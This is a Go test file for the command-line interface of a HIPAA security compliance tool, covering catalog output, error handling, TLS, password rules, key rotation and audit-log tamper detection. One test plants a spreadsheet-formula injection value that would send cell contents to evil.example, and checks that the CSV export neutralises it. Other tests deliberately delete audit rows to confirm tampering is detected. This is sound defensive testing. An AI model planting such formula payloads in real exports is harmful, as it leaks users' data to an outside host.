package cli_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/csv"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/safeguard-health/safeguard/internal/audit"
	"github.com/safeguard-health/safeguard/internal/auth"
	"github.com/safeguard-health/safeguard/internal/cli"
	"github.com/safeguard-health/safeguard/internal/org"
	"github.com/safeguard-health/safeguard/internal/store"
	"github.com/safeguard-health/safeguard/internal/storetest"
	"github.com/safeguard-health/safeguard/internal/vault"
)

// run calls the CLI as main does and returns its exit code and output.
func run(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = cli.Main(context.Background(), args, strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

type shown struct {
	Framework struct {
		ID    string `json:"id"`
		Basis string `json:"basis"`
	} `json:"framework"`
	Items []struct {
		ID       string `json:"id"`
		Citation string `json:"citation"`
		Title    string `json:"title"`
		Kind     string `json:"kind"`
		Required *bool  `json:"required"`
		Tier     string `json:"tier"`
		Parent   string `json:"parent"`
		Text     string `json:"text"`
		Source   struct {
			URL     string `json:"url"`
			Wording string `json:"wording"`
		} `json:"source"`
		Mappings []string `json:"mappings"`
	} `json:"items"`
}

func TestCatalogShowJSON(t *testing.T) {
	code, out, errOut := run(t, "catalog", "show", "hipaa-security-rule", "--json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var doc shown
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	req := map[bool]int{}
	for _, it := range doc.Items {
		kinds[it.Kind]++
		if it.Kind == "implementation_specification" {
			if it.Required == nil || it.Parent == "" {
				t.Errorf("%s: required %v, parent %q", it.Citation, it.Required, it.Parent)
				continue
			}
			req[*it.Required]++
		}
		if it.ID == "hipaa-sr/164.312(d)" && !contains(it.Mappings, "hph-cpg/essential-3") {
			t.Errorf("164.312(d) mappings %v lack hph-cpg/essential-3", it.Mappings)
		}
	}
	if kinds["standard"] != 22 || kinds["implementation_specification"] != 46 || req[true] != 24 || req[false] != 22 {
		t.Errorf("kinds %v, required %v; want 22 standards, 46 specifications (24 Required, 22 Addressable)", kinds, req)
	}

	code, out, _ = run(t, "catalog", "show", "hph-cpg", "--json")
	doc = shown{}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != 0 {
		t.Fatal(code, err)
	}
	tiers := map[string]int{}
	for _, it := range doc.Items {
		tiers[it.Tier]++
		if it.Kind != "goal" || len(it.Mappings) == 0 {
			t.Errorf("%s: kind %s, mappings %v", it.ID, it.Kind, it.Mappings)
		}
	}
	if tiers["essential"] != 10 || tiers["enhanced"] != 10 {
		t.Errorf("tiers %v", tiers)
	}
	// HHS's goals are voluntary guidance, cited at HHS's current address,
	// and each summary keeps to the goal's scope.
	if doc.Framework.Basis != "guidance" {
		t.Errorf("hph-cpg basis %q, want guidance", doc.Framework.Basis)
	}
	for _, it := range doc.Items {
		if it.Source.URL != "https://hhscyber.hhs.gov/performance-goals.html" || it.Source.Wording != "summary" {
			t.Errorf("%s: source %+v", it.ID, it.Source)
		}
		switch it.ID {
		case "hph-cpg/essential-1":
			if !strings.Contains(it.Text, "directly accessible from the internet") || strings.Contains(it.Text, "other systems") {
				t.Errorf("essential goal 1: %q", it.Text)
			}
		case "hph-cpg/essential-8":
			if !strings.Contains(it.Text, "inside the organisation's networks") || !strings.Contains(it.Text, "moving laterally") || !strings.Contains(it.Text, "between IT and OT networks") {
				t.Errorf("essential goal 8: %q", it.Text)
			}
		}
	}
	code, out, _ = run(t, "catalog", "show", "hipaa-security-rule", "--json")
	doc = shown{}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != 0 || doc.Framework.Basis != "regulation" {
		t.Errorf("the Security Rule's basis: %q %v", doc.Framework.Basis, err)
	}
}

func TestCatalogShowItem(t *testing.T) {
	code, out, _ := run(t, "catalog", "show", "hipaa-security-rule", "§ 164.312(a)(2)(iv)")
	if code != 0 || !strings.Contains(out, "Encryption and decryption") || !strings.Contains(out, "Addressable") {
		t.Errorf("exit %d:\n%s", code, out)
	}
	code, out, _ = run(t, "catalog", "show", "nist-csf-2.0", "PR.AA-03", "--json")
	if code != 0 || !strings.Contains(out, `"id": "csf2/PR.AA-03"`) || !strings.Contains(out, `"hph-cpg/essential-3"`) {
		t.Errorf("exit %d:\n%s", code, out)
	}
	code, out, _ = run(t, "catalog", "list")
	if code != 0 || !strings.Contains(out, "22 standards, 46 implementation specifications") || !strings.Contains(out, "10") {
		t.Errorf("list: exit %d:\n%s", code, out)
	}
}

func TestCatalogExportOSCAL(t *testing.T) {
	path := filepath.Join(t.TempDir(), "hph.json")
	code, _, errOut := run(t, "catalog", "export", "hph-cpg", "--format", "oscal", "-o", path)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	data, err := os.ReadFile(path)
	if err != nil || !bytes.Contains(data, []byte(`"oscal-version": "1.1.3"`)) {
		t.Errorf("export: %v\n%.300s", err, data)
	}
}

// Bad input: one clear line on stderr, a non-zero exit, no stack trace.
func TestErrorsAreOneLine(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	busy := ln.Addr().String()
	dbPath := storetest.SQLitePath(t)
	for _, tc := range []struct {
		name string
		args []string
		env  map[string]string
		code int
		want string
	}{
		{"unknown framework", []string{"catalog", "show", "pci-dss"}, nil, 1, `unknown framework "pci-dss"`},
		{"unknown item", []string{"catalog", "show", "hipaa-security-rule", "164.399(z)"}, nil, 1, `no item "164.399(z)"`},
		{"bad format", []string{"catalog", "export", "hph-cpg", "--format", "pdf"}, nil, 2, `--format "pdf"`},
		{"unknown flag", []string{"catalog", "list", "--frobnicate"}, nil, 2, "unknown flag"},
		{"malformed SAFEGUARD_DB", []string{"migrate"}, map[string]string{"SAFEGUARD_DB": "mysql://root@localhost/x"}, 2, `unsupported scheme "mysql"`},
		{"missing folder", []string{"migrate", "--db", "/no/such/folder/x.db"}, nil, 2, "folder /no/such/folder does not exist"},
		{"unreachable PostgreSQL", []string{"migrate", "--db", "postgres://postgres:hunter2@127.0.0.1:1/x?sslmode=disable"}, nil, 1, "cannot reach the database (PostgreSQL at 127.0.0.1:1/x)"},
		{"port in use", []string{"serve", "--db", dbPath, "--addr", busy}, nil, 1, "cannot listen on " + busy},
		{"bad log level", []string{"version", "--log-level", "loud"}, nil, 2, `--log-level "loud"`},
		{"TLS certificate without its key", []string{"serve", "--db", dbPath, "--tls-cert", "cert.pem"}, nil, 2, "--tls-cert and --tls-key go together"},
		{"missing TLS files", []string{"serve", "--db", dbPath, "--tls-cert", "/no/cert.pem", "--tls-key", "/no/key.pem"}, nil, 2, "--tls-cert /no/cert.pem, --tls-key /no/key.pem"},
		{"bad trusted proxy", []string{"serve", "--db", dbPath, "--trusted-proxy", "10.0.0.0/8,proxy.internal"}, nil, 2, `--trusted-proxy: "proxy.internal" is not an IP address or CIDR network`},
		{"bad env value", []string{"version"}, map[string]string{"SAFEGUARD_LOG_FORMAT": "xml"}, 2, `--log-format "xml"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			for k, v := range tc.env {
				t.Setenv(k, v)
			}
			code, _, stderr := run(t, tc.args...)
			if code != tc.code {
				t.Errorf("exit %d, want %d (stderr %q)", code, tc.code, stderr)
			}
			lines := strings.Split(strings.TrimSpace(stderr), "\n")
			last := lines[len(lines)-1]
			if !strings.HasPrefix(last, "safeguard: ") || !strings.Contains(last, tc.want) {
				t.Errorf("stderr last line %q, want it to say %q", last, tc.want)
			}
			if strings.Contains(stderr, "goroutine ") || strings.Contains(stderr, "hunter2") {
				t.Errorf("stderr holds a stack trace or a password:\n%s", stderr)
			}
		})
	}
}

// serve answers /healthz, and stops cleanly when its context ends.
func TestServeAndShutdown(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	var out, errb bytes.Buffer
	done := make(chan int)
	go func() {
		done <- cli.Main(ctx, []string{"serve", "--db", storetest.SQLitePath(t), "--addr", "127.0.0.1:0"}, strings.NewReader(""), &syncWriter{buf: &out}, &errb)
	}()
	url := waitForURL(t, &out)
	resp, err := http.Get(url + "healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Errorf("healthz = %d", resp.StatusCode)
	}
	cancel()
	select {
	case code := <-done:
		if code != 0 {
			t.Errorf("serve exited %d: %s", code, errb.String())
		}
	case <-time.After(20 * time.Second):
		t.Fatal("serve did not stop")
	}
}

// serve --tls-cert/--tls-key serves HTTPS, TLS 1.2 and later only, with
// HSTS on every answer.
func TestServeTLS(t *testing.T) {
	dir := t.TempDir()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "safeguard.test"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IPAddresses: []net.IP{net.ParseIP("127.0.0.1")}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, _ := x509.MarshalPKCS8PrivateKey(key)
	certFile, keyFile := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600)
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: keyDER}), 0o600)
	cert, _ := x509.ParseCertificate(der)
	roots := x509.NewCertPool()
	roots.AddCert(cert)

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var out, errb bytes.Buffer
	done := make(chan int)
	go func() {
		done <- cli.Main(ctx, []string{"serve", "--db", storetest.SQLitePath(t), "--addr", "127.0.0.1:0", "--tls-cert", certFile, "--tls-key", keyFile},
			strings.NewReader(""), &syncWriter{buf: &out}, &errb)
	}()
	url := waitForURL(t, &out)
	if !strings.HasPrefix(url, "https://") {
		t.Fatalf("serve with a certificate printed %s", url)
	}
	client := func(maxVersion uint16) *http.Client {
		return &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MaxVersion: maxVersion}}}
	}
	resp, err := client(0).Get(url + "healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.TLS == nil || resp.TLS.Version < tls.VersionTLS12 || !strings.HasPrefix(resp.Header.Get("Strict-Transport-Security"), "max-age=") {
		t.Errorf("healthz over TLS: %d, HSTS %q", resp.StatusCode, resp.Header.Get("Strict-Transport-Security"))
	}
	if _, err := client(tls.VersionTLS11).Get(url + "healthz"); err == nil {
		t.Error("a TLS 1.1 client was served")
	}
	if resp, err := http.Get("http" + strings.TrimPrefix(url, "https") + "healthz"); err == nil {
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("plain HTTP beside HTTPS: %d, want 400", resp.StatusCode)
		}
	}
	cancel()
	if code := <-done; code != 0 {
		t.Errorf("serve exited %d: %s", code, errb.String())
	}
}

// SAFEGUARD_DB is honoured, and a flag wins over it.
func TestEnvAndFlags(t *testing.T) {
	envDB, flagDB := storetest.SQLitePath(t), storetest.SQLitePath(t)
	t.Setenv("SAFEGUARD_DB", envDB)
	if code, out, errOut := run(t, "migrate"); code != 0 || !strings.Contains(out, envDB) {
		t.Errorf("migrate with SAFEGUARD_DB: exit %d\n%s%s", code, out, errOut)
	}
	if code, out, _ := run(t, "migrate", "--db", flagDB); code != 0 || !strings.Contains(out, flagDB) {
		t.Errorf("--db did not win over SAFEGUARD_DB:\n%s", out)
	}
}

var mu sync.Mutex

// syncWriter lets the test read what a running server writes.
type syncWriter struct{ buf *bytes.Buffer }

func (w *syncWriter) Write(p []byte) (int, error) {
	mu.Lock()
	defer mu.Unlock()
	return w.buf.Write(p)
}

var urlRE = regexp.MustCompile(`https?://[0-9.:]+/`)

func waitForURL(t *testing.T, out *bytes.Buffer) string {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		mu.Lock()
		u := urlRE.FindString(out.String())
		mu.Unlock()
		if u != "" {
			return u
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatal("server did not print its address")
	return ""
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// --org picks an organisation; it may be left out when there is only one.
func TestOrgVerbs(t *testing.T) {
	db := storetest.SQLitePath(t)
	if code, _, errOut := run(t, "org", "show", "--db", db); code != 1 || !strings.Contains(errOut, "no organisation yet") {
		t.Errorf("org show on an empty database: exit %d, %q", code, errOut)
	}
	s := storetest.SQLiteAt(t, db)
	if _, err := cli.SeedDemo(context.Background(), s); err != nil {
		t.Fatal(err)
	}
	code, out, _ := run(t, "org", "show", "--db", db)
	if code != 0 || !strings.Contains(out, `"slug": "riverside-demo"`) || !strings.Contains(out, `"demo": true`) {
		t.Errorf("org show: exit %d\n%s", code, out)
	}
	if err := s.CreateOrganization(context.Background(), &org.Organization{Slug: "northside", Name: "Northside Health Plan", EntityType: org.HealthPlan}); err != nil {
		t.Fatal(err)
	}
	if code, _, errOut := run(t, "org", "show", "--db", db); code != 2 || !strings.Contains(errOut, "pass --org") {
		t.Errorf("org show with two organisations: exit %d, %q", code, errOut)
	}
	t.Setenv("SAFEGUARD_ORG", "northside")
	if code, out, _ := run(t, "org", "show", "--db", db); code != 0 || !strings.Contains(out, "Northside Health Plan") {
		t.Errorf("SAFEGUARD_ORG=northside: exit %d\n%s", code, out)
	}
	code, out, _ = run(t, "org", "list", "--db", db)
	if code != 0 || !strings.Contains(out, "Riverside Family Clinic (demo)") || !strings.Contains(out, "Health plan") {
		t.Errorf("org list: exit %d\n%s", code, out)
	}
}

// First run on an empty database: an organisation, its first owner, a
// password reset, a disabled user.
func TestUserVerbs(t *testing.T) {
	db := storetest.SQLitePath(t)
	code, out, errOut := run(t, "org", "create", "--db", db, "--slug", "riverside", "--name", "Riverside Family Clinic", "--type", "provider", "--workforce", "12")
	if code != 0 || !strings.Contains(out, "Created Riverside Family Clinic (Health care provider)") {
		t.Fatalf("org create: exit %d\n%s%s", code, out, errOut)
	}
	if code, _, errOut := run(t, "org", "create", "--db", db, "--slug", "x", "--name", "X", "--type", "hospital"); code != 2 || !strings.Contains(errOut, `unknown entity type "hospital"`) {
		t.Errorf("bad entity type: exit %d, %q", code, errOut)
	}
	code, out, errOut = run(t, "user", "create", "--db", db, "--email", "Jane@Clinic.example", "--name", "Jane Doe", "--role", "owner")
	if code != 0 || !strings.Contains(out, "as Owner of Riverside Family Clinic") || !strings.Contains(out, "Password: ") {
		t.Fatalf("user create: exit %d\n%s%s", code, out, errOut)
	}
	generated := strings.TrimSpace(strings.SplitN(strings.SplitN(out, "Password: ", 2)[1], "\n", 2)[0])

	s := storetest.SQLiteAt(t, db)
	ctx := context.Background()
	u, err := s.UserByEmail(ctx, "jane@clinic.example")
	if err != nil {
		t.Fatal(err)
	}
	h := auth.NewHasher(auth.DefaultArgon2, nil)
	if ok, _ := h.Verify(generated, u.PasswordHash); !ok {
		t.Error("the printed password does not verify against the stored hash")
	}
	if strings.Contains(u.PasswordHash, generated) {
		t.Error("the password is stored in clear")
	}

	for _, tc := range []struct {
		name  string
		args  []string
		stdin string
		code  int
		want  string
	}{
		{"duplicate", []string{"user", "create", "--email", "jane@clinic.example", "--name", "J", "--role", "auditor"}, "", 1, "already exists"},
		{"bad role", []string{"user", "create", "--email", "x@clinic.example", "--name", "X", "--role", "admin"}, "", 2, `unknown role "admin"`},
		{"missing flag", []string{"user", "create", "--email", "x@clinic.example", "--role", "owner"}, "", 2, "--name is required"},
		{"weak password", []string{"user", "reset-password", "--email", "jane@clinic.example", "--password-stdin"}, "password\n", 2, "at least 15 characters"},
		{"common password", []string{"user", "reset-password", "--email", "jane@clinic.example", "--password-stdin"}, "jane doe clinic\n", 2, "too close"},
		{"keyboard walk", []string{"user", "create", "--email", "w@clinic.example", "--name", "W", "--role", "auditor", "--password-stdin"}, "1qaz2wsx3edc4rfv\n", 2, "easy to guess"},
		{"word and digits", []string{"user", "create", "--email", "w@clinic.example", "--name", "W", "--role", "auditor", "--password-stdin"}, "Password1234567!\n", 2, "easy to guess"},
		{"digits", []string{"user", "reset-password", "--email", "jane@clinic.example", "--password-stdin"}, "123456789012345\n", 2, "easy to guess"},
		{"keys in a row", []string{"user", "reset-password", "--email", "jane@clinic.example", "--password-stdin"}, "qwertyuiopasdfgh\n", 2, "easy to guess"},
		{"unknown user", []string{"user", "disable", "--email", "nobody@clinic.example"}, "", 1, "user not found"},
		{"good password", []string{"user", "reset-password", "--email", "JANE@clinic.example", "--password-stdin"}, "a quiet river under the old bridge\n", 0, ""},
		{"disable", []string{"user", "disable", "--email", "jane@clinic.example"}, "", 0, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out, errb bytes.Buffer
			code := cli.Main(ctx, append(tc.args, "--db", db), strings.NewReader(tc.stdin), &out, &errb)
			if code != tc.code || !strings.Contains(errb.String(), tc.want) {
				t.Errorf("exit %d (want %d), stderr %q (want %q)", code, tc.code, errb.String(), tc.want)
			}
		})
	}
	u, _ = s.UserByEmail(ctx, "jane@clinic.example")
	if ok, _ := h.Verify("a quiet river under the old bridge", u.PasswordHash); !ok || !u.Disabled {
		t.Errorf("after reset and disable: verifies %v, disabled %v", ok, u.Disabled)
	}
	_, out, _ = run(t, "user", "list", "--db", db)
	if !strings.Contains(out, "jane@clinic.example") || !strings.Contains(out, "disabled") {
		t.Errorf("user list:\n%s", out)
	}
}

// Changes made from the command line are in the audit log under the
// operator, and verify says the chain is whole.
func TestAuditVerbs(t *testing.T) {
	db := storetest.SQLitePath(t)
	for _, args := range [][]string{
		{"org", "create", "--slug", "rs", "--name", "Riverside", "--type", "provider"},
		{"user", "create", "--email", "j@rs.example", "--name", "J D", "--role", "owner"},
		{"user", "disable", "--email", "j@rs.example"},
	} {
		if code, _, errOut := run(t, append(args, "--db", db)...); code != 0 {
			t.Fatalf("%v: %s", args, errOut)
		}
	}
	code, out, _ := run(t, "audit", "verify", "--db", db)
	if code != 0 || !strings.Contains(out, "audit log intact: 4 entries") {
		t.Errorf("verify: exit %d\n%s", code, out)
	}
	code, out, _ = run(t, "audit", "log", "--db", db, "--all", "--format", "json")
	var doc struct {
		Entries []struct {
			Seq    int64  `json:"seq"`
			Actor  string `json:"actor"`
			Source string `json:"source"`
			Action string `json:"action"`
			Hash   string `json:"hash"`
		} `json:"entries"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != 0 || len(doc.Entries) != 4 {
		t.Fatalf("audit log json: exit %d, %v\n%s", code, err, out)
	}
	if e := doc.Entries[0]; e.Action != "user.disable" || e.Source != "cli" || !strings.Contains(e.Actor, "(command line)") || len(e.Hash) != 64 {
		t.Errorf("newest entry %+v", e)
	}
	if code, out, _ := run(t, "audit", "log", "--db", db, "--format", "csv"); code != 0 || !strings.HasPrefix(out, "seq,at,org_id") || !strings.Contains(out, "org.create") {
		t.Errorf("audit log csv: exit %d\n%s", code, out)
	}

	// A failed sign-in records the email typed as its actor: text anyone
	// can choose. In the CSV export it is text a spreadsheet will not run.
	s := storetest.SQLiteAt(t, db)
	typed := `=HYPERLINK("http://evil.example/?"&A1,"Open")`
	if err := s.RecordEvent(audit.WithActor(context.Background(), audit.Actor{Label: typed, Source: "203.0.113.9"}), "", "login.failed", "account:+1", nil); err != nil {
		t.Fatal(err)
	}
	s.Close()
	code, out, _ = run(t, "audit", "log", "--db", db, "--all", "--format", "csv")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || code != 0 || len(rows) != 6 {
		t.Fatalf("audit log csv: exit %d, %v, %d rows\n%s", code, err, len(rows), out)
	}
	if got := rows[1]; got[6] != "login.failed" || got[4] != "'"+typed || got[7] != "account:+1" {
		t.Errorf("the failed sign-in exported as actor %q, target %q", got[4], got[7])
	}
}

// A key file is made beside a SQLite database on first use; rotation moves
// the data keys to the new key; PostgreSQL needs a key given.
func TestKeyVerbs(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "k.db")
	code, out, _ := run(t, "key", "generate", "2026-11")
	if code != 0 || !regexp.MustCompile(`^2026-11:[A-Za-z0-9+/]{43}=\n$`).MatchString(out) {
		t.Fatalf("key generate: %d %q", code, out)
	}
	newLine := strings.TrimSpace(out)
	if code, _, errOut := run(t, "key", "rotate", "--db", db); code != 0 {
		t.Fatalf("rotate with no data keys: %s", errOut)
	}
	keys, err := os.ReadFile(db + ".keys")
	if err != nil {
		t.Fatalf("no key file beside the database: %v", err)
	}
	if st, _ := os.Stat(db + ".keys"); st.Mode().Perm() != 0o600 {
		t.Errorf("key file mode %v, want 0600", st.Mode().Perm())
	}
	// Seal something under the first key, then rotate to the new one.
	s := storetest.SQLiteAt(t, db)
	kr, err := vault.ParseKeyring(bytes.NewReader(keys), "k")
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := vault.New(s, kr).Seal(context.Background(), []byte("seed"), nil)
	if err != nil {
		t.Fatal(err)
	}
	rotated := filepath.Join(dir, "rotated.keys")
	os.WriteFile(rotated, append([]byte(newLine+"\n"), keys...), 0o600)
	code, out, errOut := run(t, "key", "rotate", "--db", db, "--key-file", rotated)
	if code != 0 || !strings.Contains(out, "Re-wrapped 1 data key(s) under key 2026-11") {
		t.Fatalf("rotate: %d %s%s", code, out, errOut)
	}
	onlyNew, _ := vault.ParseKeyring(strings.NewReader(newLine), "new")
	if got, err := vault.New(s, onlyNew).Open(context.Background(), sealed, nil); err != nil || string(got) != "seed" {
		t.Errorf("after rotation, the new key alone: %q, %v", got, err)
	}
	if code, _, errOut := run(t, "key", "rotate", "--db", db, "--key-file", filepath.Join(dir, "missing.keys")); code != 2 || !strings.Contains(errOut, "--key-file") {
		t.Errorf("missing key file: %d %q", code, errOut)
	}
}

// audit checkpoint signs the newest entry; verify checks it with the key
// file, and catches entries removed after it.
func TestAuditCheckpointVerbs(t *testing.T) {
	db := storetest.SQLitePath(t)
	run(t, "org", "create", "--db", db, "--slug", "rs", "--name", "Riverside", "--type", "provider")
	if code, out, errOut := run(t, "audit", "checkpoint", "--db", db); code != 0 || !strings.Contains(out, "signed checkpoint at entry 1") {
		t.Fatalf("checkpoint: %d %s%s", code, out, errOut)
	}
	run(t, "org", "create", "--db", db, "--slug", "ns", "--name", "Northside", "--type", "health_plan")
	if code, out, _ := run(t, "audit", "verify", "--db", db); code != 0 || !strings.Contains(out, "1 signed checkpoint(s) hold") {
		t.Errorf("verify: %d %s", code, out)
	}
	// Empty the log behind Safeguard's back: the chain alone would look whole.
	raw, err := store.OpenSQLiteFile(db)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	for _, q := range []string{"DROP TRIGGER audit_log_no_delete", "DELETE FROM audit_log"} {
		if _, err := raw.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	code, _, errOut := run(t, "audit", "verify", "--db", db)
	if code != 1 || !strings.Contains(errOut, "audit checkpoint 1 does not hold") {
		t.Errorf("verify after the log was emptied: %d %q", code, errOut)
	}
}

// audit head prints a signed head to keep outside the database; verify
// --head proves with it that the log was not cut back, even by someone who
// also deleted every checkpoint.
func TestAuditHeadVerbs(t *testing.T) {
	db := storetest.SQLitePath(t)
	run(t, "org", "create", "--db", db, "--slug", "rs", "--name", "Riverside", "--type", "provider")
	run(t, "org", "create", "--db", db, "--slug", "ns", "--name", "Northside", "--type", "health_plan")
	code, out, errOut := run(t, "audit", "head", "--db", db)
	if code != 0 || !strings.Contains(out, `"format":"safeguard-audit-head/1","seq":2,`) {
		t.Fatalf("head: %d %s%s", code, out, errOut)
	}
	headFile := filepath.Join(t.TempDir(), "head.json")
	os.WriteFile(headFile, []byte(out), 0o600)
	// Nothing new since: the same head again.
	if _, again, _ := run(t, "audit", "head", "--db", db); again != out {
		t.Errorf("head of an unchanged log changed:\n%s\n%s", out, again)
	}
	run(t, "org", "create", "--db", db, "--slug", "es", "--name", "Eastside", "--type", "provider")
	if code, out, errOut := run(t, "audit", "verify", "--db", db, "--head", headFile); code != 0 || !strings.Contains(out, "the signed head "+headFile+" (entry 2") {
		t.Errorf("verify --head: %d %s%s", code, out, errOut)
	}
	raw, err := store.OpenSQLiteFile(db)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	// The checkpoints are refused to anyone who does not first drop the
	// trigger; deleting them then is caught by the entry that records one.
	if _, err := raw.Exec("DELETE FROM audit_checkpoints"); err == nil || !strings.Contains(err.Error(), "append-only") {
		t.Errorf("deleting the checkpoints: %v, want it refused", err)
	}
	for _, q := range []string{"DROP TRIGGER audit_checkpoints_no_delete", "DELETE FROM audit_checkpoints"} {
		if _, err := raw.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	if code, _, errOut := run(t, "audit", "verify", "--db", db); code != 1 || !strings.Contains(errOut, "audit checkpoint 2 does not hold: entry 3 of the log records this checkpoint, which is gone") {
		t.Errorf("verify after the checkpoints were deleted: %d %q", code, errOut)
	}
	// Cut the log back to before that entry: the database alone looks
	// whole, the head kept outside it does not.
	for _, q := range []string{"DROP TRIGGER audit_log_no_delete", "DELETE FROM audit_log WHERE seq >= 2"} {
		if _, err := raw.Exec(q); err != nil {
			t.Fatal(err)
		}
	}
	if code, out, errOut := run(t, "audit", "verify", "--db", db); code != 0 {
		t.Errorf("verify of the cut log without the head: %d %s%s", code, out, errOut)
	}
	if code, _, errOut := run(t, "audit", "verify", "--db", db, "--head", headFile); code != 1 || !strings.Contains(errOut, "does not hold: the log ends at entry 1, but this checkpoint vouches for entry 2: entries were removed") {
		t.Errorf("verify --head of the cut log: %d %q", code, errOut)
	}
	os.WriteFile(headFile, []byte("not a head"), 0o600)
	if code, _, errOut := run(t, "audit", "verify", "--db", db, "--head", headFile); code != 2 || !strings.Contains(errOut, headFile+": not a signed audit head") {
		t.Errorf("verify --head of a bad file: %d %q", code, errOut)
	}
}
